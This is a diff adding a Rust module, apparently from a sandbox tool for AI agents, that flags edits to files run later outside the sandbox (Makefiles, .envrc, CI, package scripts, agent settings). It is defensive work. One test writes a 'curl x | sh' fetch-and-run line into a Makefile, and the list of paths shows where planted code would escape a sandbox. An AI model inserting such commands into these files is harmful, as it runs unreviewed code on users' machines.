@@ -1,0 +1,266 @@
+//! Files that another program runs later, outside the sandbox: the project's task runners,
+//! CI definitions, editor tasks, package scripts, build scripts, shell environment hooks and
+//! agent settings. Agents edit them legitimately, so they stay writable; every change to one
+//! is flagged (in the tool's result, in `show_changes`, in the audit trail, on the dashboard)
+//! so the user sees it before the next `make`, `npm test`, `cd` or CI run executes it.
+//!
+//! The rule is by path relative to the project root, compared ASCII case-insensitively per
+//! component (case-insensitive file systems open `MAKEFILE` as `Makefile`). Nested copies
+//! count too (a workspace member's `package.json` or `build.rs` is run the same way), except
+//! for the files only read at the top (CI and editor folders, which are matched by their
+//! folder at any depth because monorepo tools pick them up there as well).
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// The first words of the line that flags changed runs-later files in a tool's result;
+/// the server's audit reads the paths back from it ([`parse_note`]).
+pub const NOTE_PREFIX: &str = "Changed files that run later outside the sandbox: ";
+
+/// Files named in one flag line; the rest are counted (the line must stay short).
+pub const NOTE_MAX_FILES: usize = 12;
+
+/// The flag line for changed files, `(root-relative path as shown, what runs it)` each, or
+/// `None` for none: `Changed files that run later outside the sandbox: Makefile (make / just
+/// / task); .envrc (direnv on entering the folder). Review them before those tools next run
+/// (show_changes shows the diff).` One line, so it survives a result cut at a budget.
+pub fn note(changed: &[(String, &'static str)]) -> Option<String> {
+    if changed.is_empty() {
+        return None;
+    }
+    let mut items: Vec<String> = changed
+        .iter()
+        .take(NOTE_MAX_FILES)
+        .map(|(p, what)| format!("{p} ({what})"))
+        .collect();
+    if changed.len() > NOTE_MAX_FILES {
+        items.push(format!("{} more", changed.len() - NOTE_MAX_FILES));
+    }
+    Some(format!(
+        "{NOTE_PREFIX}{}. Review them before those tools next run (show_changes shows the diff).",
+        items.join("; ")
+    ))
+}
+
+/// The paths flagged by a [`note`] line anywhere in `text` (empty when there is none).
+pub fn parse_note(text: &str) -> Vec<String> {
+    let Some(line) = text.lines().find_map(|l| l.strip_prefix(NOTE_PREFIX)) else {
+        return Vec::new();
+    };
+    let line = line.split(". Review them").next().unwrap_or(line);
+    line.split("; ")
+        .filter_map(|item| item.rsplit_once(" (").map(|(p, _)| p.to_string()))
+        .collect()
+}
+
+/// The runs-later files ([`runs_later`]) in the places an agent's command most often
+/// changes them, with their identity (size, modification time in ns, inode): the root's
+/// entries and the files one level inside the folders the rule names (`.github/workflows`,
+/// `.vscode`, `.husky`, `.cargo`, `.claude`, `.devcontainer`, `.gitlab`, `.circleci`).
+/// Nested copies deeper in the tree (a member's `build.rs`) are not stamped (it would walk
+/// the whole project per command); `show_changes` still flags them. Cost: one directory
+/// read per existing folder, microseconds.
+pub fn stamps(root: &Path) -> BTreeMap<PathBuf, (u64, i128, u64)> {
+    use std::os::unix::fs::MetadataExt;
+    let mut out = BTreeMap::new();
+    let mut scan = |dir: &Path| {
+        let Ok(rd) = std::fs::read_dir(dir) else {
+            return;
+        };
+        for e in rd.flatten() {
+            let p = e.path();
+            let Ok(rel) = p.strip_prefix(root) else {
+                continue;
+            };
+            if runs_later(rel).is_none() {
+                continue;
+            }
+            if let Ok(m) = std::fs::symlink_metadata(&p)
+                && !m.is_dir()
+            {
+                let mtime = m.mtime() as i128 * 1_000_000_000 + m.mtime_nsec() as i128;
+                out.insert(rel.to_path_buf(), (m.len(), mtime, m.ino()));
+            }
+        }
+    };
+    scan(root);
+    for d in [
+        ".github/workflows",
+        ".github/actions",
+        ".vscode",
+        ".husky",
+        ".cargo",
+        ".claude",
+        ".devcontainer",
+        ".gitlab",
+        ".circleci",
+    ] {
+        scan(&root.join(d));
+    }
+    out
+}
+
+/// The files whose stamp differs between `before` and `after` (changed, created or
+/// removed), as `(path, what runs it)` for [`note`].
+pub fn changed(
+    before: &BTreeMap<PathBuf, (u64, i128, u64)>,
+    after: &BTreeMap<PathBuf, (u64, i128, u64)>,
+) -> Vec<(String, &'static str)> {
+    let mut out: Vec<(String, &'static str)> = Vec::new();
+    for p in before.keys().chain(after.keys()) {
+        if before.get(p) != after.get(p) {
+            let shown = p.to_string_lossy().into_owned();
+            if !out.iter().any(|(s, _)| *s == shown)
+                && let Some(what) = runs_later(p)
+            {
+                out.push((shown, what));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+/// What runs a file at `rel` (a path relative to the project root), as a short phrase for
+/// the flag ("direnv on entering the folder"), or `None` when nothing known runs it.
+/// `rel` may use `/` or the OS separator; components `.` are ignored.
+pub fn runs_later(rel: &Path) -> Option<&'static str> {
+    let parts: Vec<String> = rel
+        .components()
+        .filter_map(|c| match c {
+            std::path::Component::Normal(n) => Some(n.to_string_lossy().to_ascii_lowercase()),
+            _ => None,
+        })
+        .collect();
+    let (name, dirs) = parts.split_last()?;
+    let name = name.as_str();
+    let in_dir = |d: &str| dirs.iter().any(|x| x == d);
+    let parent = dirs.last().map(String::as_str);
+    // Folders whose every file is configuration a tool executes or obeys.
+    if in_dir(".github") && (in_dir("workflows") || in_dir("actions") || name == "action.yml") {
+        return Some("GitHub Actions");
+    }
+    if in_dir(".husky") {
+        return Some("husky git hooks");
+    }
+    if in_dir(".devcontainer") {
+        return Some("dev container build");
+    }
+    if parent == Some(".vscode") && matches!(name, "tasks.json" | "settings.json" | "launch.json") {
+        return Some("VS Code tasks and settings");
+    }
+    if parent == Some(".idea") && (name.ends_with(".xml") || in_dir("runconfigurations")) {
+        return Some("JetBrains run configurations");
+    }
+    if parent == Some(".cargo") && matches!(name, "config" | "config.toml") {
+        return Some("cargo (build settings, runners, aliases)");
+    }
+    if parent == Some(".claude") && name.starts_with("settings") && name.ends_with(".json") {
+        return Some("Claude Code (hooks, permissions)");
+    }
+    if parent == Some(".codex") && name == "config.toml" {
+        return Some("Codex CLI (MCP servers, sandbox mode)");
+    }
+    if parent == Some(".gitlab") || name == ".gitlab-ci.yml" {
+        return Some("GitLab CI");
+    }
+    if parent == Some(".circleci") {
+        return Some("CircleCI");
+    }
+    Some(match name {
+        ".envrc" => "direnv on entering the folder",
+        "makefile" | "gnumakefile" | "justfile" | ".justfile" | "taskfile.yml"
+        | "taskfile.yaml" => "make / just / task",
+        "package.json" => "npm / yarn / pnpm scripts",
+        ".npmrc" | ".yarnrc" | ".yarnrc.yml" | ".pnpmfile.cjs" => "npm / yarn / pnpm settings",
+        "build.rs" => "cargo build scripts",
+        "rust-toolchain" | "rust-toolchain.toml" => "rustup (toolchain choice)",
+        ".pre-commit-config.yaml" | "lefthook.yml" | "lefthook.yaml" | ".lefthook.yml" => {
+            "git hook managers"
+        }
+        ".gitattributes" | ".gitmodules" => "git (filters, submodules)",
+        "mise.toml" | ".mise.toml" | ".tool-versions" => "mise / asdf",
+        "conftest.py" | "setup.py" | "pyproject.toml" | "tox.ini" | "noxfile.py" => {
+            "Python test and build tools"
+        }
+        "build.gradle"
+        | "build.gradle.kts"
+        | "settings.gradle"
+        | "settings.gradle.kts"
+        | "gradlew"
+        | "pom.xml" => "Gradle / Maven builds",
+        "jenkinsfile" | ".travis.yml" | "azure-pipelines.yml" | "bitbucket-pipelines.yml" => "CI",
+        ".mcp.json" => "MCP clients (servers started from the project)",
+        "flake.nix" | "shell.nix" | "default.nix" => "nix",
+        "dockerfile" | "docker-compose.yml" | "compose.yaml" | "compose.yml" => "docker builds",
+        _ => return None,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn files_other_tools_run_are_named() {
+        for p in [
+            ".envrc",
+            ".vscode/tasks.json",
+            ".github/workflows/ci.yml",
+            "Makefile",
+            "MAKEFILE",
+            "crates/x/build.rs",
+            "web/package.json",
+            ".cargo/config.toml",
+            ".claude/settings.local.json",
+            ".husky/pre-commit",
+            "./.gitlab-ci.yml",
+        ] {
+            assert!(runs_later(Path::new(p)).is_some(), "{p}");
+        }
+        for p in [
+            "src/main.rs",
+            "README.md",
+            "package-lock.json",
+            ".vscode/extensions.json",
+            "docs/Makefile.md",
+            ".github/CODEOWNERS",
+            "",
+        ] {
+            assert!(runs_later(Path::new(p)).is_none(), "{p}");
+        }
+    }
+
+    #[test]
+    fn a_note_reads_back_as_its_paths() {
+        let n = note(&[
+            ("Makefile".into(), "make / just / task"),
+            (".github/workflows/ci.yml".into(), "GitHub Actions"),
+        ])
+        .unwrap();
+        assert_eq!(
+            parse_note(&format!("wrote 3 bytes\n{n}\nmore")),
+            vec!["Makefile", ".github/workflows/ci.yml"]
+        );
+        assert!(note(&[]).is_none());
+        assert!(parse_note("nothing here").is_empty());
+    }
+
+    #[test]
+    fn stamps_see_a_command_change_a_task_file() {
+        let d = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(d.path().join(".vscode")).unwrap();
+        std::fs::write(d.path().join("Makefile"), "all:\n").unwrap();
+        std::fs::write(d.path().join("main.c"), "int main(){}\n").unwrap();
+        let before = stamps(d.path());
+        std::fs::write(d.path().join("main.c"), "int main(){return 1;}\n").unwrap();
+        assert!(changed(&before, &stamps(d.path())).is_empty());
+        std::fs::write(d.path().join("Makefile"), "all:\n\tcurl x | sh\n").unwrap();
+        std::fs::write(d.path().join(".vscode/tasks.json"), "{}").unwrap();
+        let got: Vec<String> = changed(&before, &stamps(d.path()))
+            .into_iter()
+            .map(|(p, _)| p)
+            .collect();
+        assert_eq!(got, vec![".vscode/tasks.json", "Makefile"]);
+    }
+}
